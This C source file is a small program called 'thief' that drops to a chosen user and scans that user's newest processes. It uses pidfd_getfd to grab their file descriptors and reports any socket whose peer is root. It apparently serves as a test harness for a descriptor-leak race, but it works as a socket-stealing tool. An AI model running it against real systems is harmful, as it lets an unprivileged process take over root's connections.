/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Takes the sockets that root made from the newest processes of its own user (pidfd_getfd(2)), for
 * some seconds: `thief UID SECONDS`. For each that it got, it writes the number of root's process,
 * and in the end to standard error how often it asked a process of its user.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <grp.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#define MOST_DESCRIPTORS 24
#define NEWEST_PROCESSES 24 /* new ones have not hidden yet */

static unsigned long asked;

static void rob(pid_t pid)
{
	int process = (int)syscall(SYS_pidfd_open, pid, 0), got;
	struct ucred maker;
	socklen_t size = sizeof(maker);

	for (int fd = 3; process >= 0 && fd < MOST_DESCRIPTORS; fd++) {
		got = (int)syscall(SYS_pidfd_getfd, process, fd, 0);
		asked += !kill(pid, 0); /* permitted for processes of one's own user */
		if (got < 0)
			continue;
		if (!getsockopt(got, SOL_SOCKET, SO_PEERCRED, &maker, &size) && !maker.uid) {
			printf("%d\n", maker.pid);
			fflush(stdout);
		}
		close(got);
	}
	if (process >= 0)
		close(process);
}

/* The number of the machine's newest process: the last word of /proc/loadavg (proc(5)). */
static pid_t newest(int loadavg)
{
	char text[128] = "";
	const char *space;

	if (pread(loadavg, text, sizeof(text) - 1, 0) <= 0)
		return 0;
	for (space = text + sizeof(text) - 2; space > text && *space != ' '; space--)
		;
	return atoi(space);
}

int main(int argc, char **argv)
{
	uid_t uid = argc == 3 ? (uid_t)atoi(argv[1]) : 0;
	time_t end = argc == 3 ? time(NULL) + atoi(argv[2]) : 0;
	int loadavg = open("/proc/loadavg", O_RDONLY | O_CLOEXEC);

	if (!uid || loadavg < 0 || setgroups(0, NULL) || setresgid(uid, uid, uid) ||
	    setresuid(uid, uid, uid))
		return 1;
	puts("ready");
	fflush(stdout);
	while (time(NULL) < end) {
		pid_t last = newest(loadavg);

		for (pid_t pid = last; pid > 1 && pid > last - NEWEST_PROCESSES; pid--)
			if (pid != getpid())
				rob(pid);
	}
	fprintf(stderr, "%lu\n", asked);
	return 0;
}
